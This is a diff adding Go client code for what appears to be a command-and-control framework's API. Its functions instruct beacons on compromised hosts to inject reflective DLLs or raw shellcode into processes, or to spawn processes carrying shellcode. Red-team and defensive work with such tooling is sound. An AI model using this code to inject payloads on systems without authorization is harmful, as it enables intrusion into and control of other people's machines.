@@ -0,0 +1,137 @@
+package csclient
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"strconv"
+)
+
+// DllInjectDto injects a reflective DLL into a process
+type DllInjectDto struct {
+	PID   int               `json:"pid"`
+	DLL   string            `json:"dll"`             // @files/ or @artifacts/ reference
+	Files map[string]string `json:"files,omitempty"` // Map of file key -> base64 content
+}
+
+// DllLoadDto loads a DLL that exists on the target into a process
+type DllLoadDto struct {
+	PID  int    `json:"pid"`
+	Path string `json:"path"`
+}
+
+// validatePID rejects negative process IDs
+func validatePID(pid int) error {
+	if pid < 0 {
+		return &ValidationError{Field: "pid", Value: strconv.Itoa(pid), Reason: "must not be negative"}
+	}
+	return nil
+}
+
+// DLLInject injects a local reflective DLL into process pid
+func (c *Client) DLLInject(ctx context.Context, bid string, pid int, dllPath string) (*AsyncCommandResponse, error) {
+	if err := validatePID(pid); err != nil {
+		return nil, fmt.Errorf("failed to inject dll: %w", err)
+	}
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/inject/dll")
+	if err != nil {
+		return nil, fmt.Errorf("failed to inject dll: %w", err)
+	}
+	data, err := os.ReadFile(dllPath)
+	if err != nil {
+		return nil, fmt.Errorf("failed to read dll: %w", err)
+	}
+	dll, files := attachFile(dllPath, data)
+	if err := c.preflightInjectPE(ctx, bid, dll, pid, data); err != nil {
+		return nil, fmt.Errorf("failed to inject dll: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, DllInjectDto{PID: pid, DLL: dll, Files: files}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to inject dll: %w", err)
+	}
+	return &resp, nil
+}
+
+// DLLLoad loads a DLL already present on the target into process pid via LoadLibrary
+func (c *Client) DLLLoad(ctx context.Context, bid string, pid int, remoteDLLPath string) (*AsyncCommandResponse, error) {
+	if err := validatePID(pid); err != nil {
+		return nil, fmt.Errorf("failed to load dll: %w", err)
+	}
+	if remoteDLLPath == "" {
+		return nil, fmt.Errorf("failed to load dll: %w", &ValidationError{Field: "path", Value: remoteDLLPath, Reason: "must not be empty"})
+	}
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/inject/loadDll")
+	if err != nil {
+		return nil, fmt.Errorf("failed to load dll: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, DllLoadDto{PID: pid, Path: remoteDLLPath}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to load dll: %w", err)
+	}
+	return &resp, nil
+}
+
+// ShInjectDto injects shellcode into a process
+type ShInjectDto struct {
+	PID       int               `json:"pid"`
+	Arch      string            `json:"arch"`
+	Shellcode string            `json:"shellcode"`       // @files/ or @artifacts/ reference
+	Files     map[string]string `json:"files,omitempty"` // Map of file key -> base64 content
+}
+
+// ShSpawnDto spawns a process and injects shellcode into it
+type ShSpawnDto struct {
+	Arch      string            `json:"arch"`
+	Shellcode string            `json:"shellcode"`
+	Files     map[string]string `json:"files,omitempty"`
+}
+
+// ShInject injects raw shellcode of the given architecture into process pid
+func (c *Client) ShInject(ctx context.Context, bid string, pid int, arch string, shellcode []byte) (*AsyncCommandResponse, error) {
+	if err := validatePID(pid); err != nil {
+		return nil, fmt.Errorf("failed to inject shellcode: %w", err)
+	}
+	if err := validateTargetArch(arch); err != nil {
+		return nil, fmt.Errorf("failed to inject shellcode: %w", err)
+	}
+	if len(shellcode) == 0 {
+		return nil, fmt.Errorf("failed to inject shellcode: %w", &ValidationError{Field: "shellcode", Reason: "must not be empty"})
+	}
+
+	if err := c.preflightInject(ctx, bid, "shellcode", pid, arch); err != nil {
+		return nil, fmt.Errorf("failed to inject shellcode: %w", err)
+	}
+
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/inject/shellcode")
+	if err != nil {
+		return nil, fmt.Errorf("failed to inject shellcode: %w", err)
+	}
+	ref, files := attachFile("shellcode.bin", shellcode)
+	req := ShInjectDto{PID: pid, Arch: arch, Shellcode: ref, Files: files}
+	if err := c.doRequest(ctx, "POST", path, req, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to inject shellcode: %w", err)
+	}
+	return &resp, nil
+}
+
+// ShSpawn spawns a process of the given architecture (see SetSpawnTo) and injects raw shellcode into it
+func (c *Client) ShSpawn(ctx context.Context, bid string, arch string, shellcode []byte) (*AsyncCommandResponse, error) {
+	if err := validateTargetArch(arch); err != nil {
+		return nil, fmt.Errorf("failed to spawn shellcode: %w", err)
+	}
+	if len(shellcode) == 0 {
+		return nil, fmt.Errorf("failed to spawn shellcode: %w", &ValidationError{Field: "shellcode", Reason: "must not be empty"})
+	}
+
+	var resp AsyncCommandResponse
+	path, err := beaconPath(bid, "/spawn/shellcode")
+	if err != nil {
+		return nil, fmt.Errorf("failed to spawn shellcode: %w", err)
+	}
+	ref, files := attachFile("shellcode.bin", shellcode)
+	if err := c.doRequest(ctx, "POST", path, ShSpawnDto{Arch: arch, Shellcode: ref, Files: files}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to spawn shellcode: %w", err)
+	}
+	return &resp, nil
+}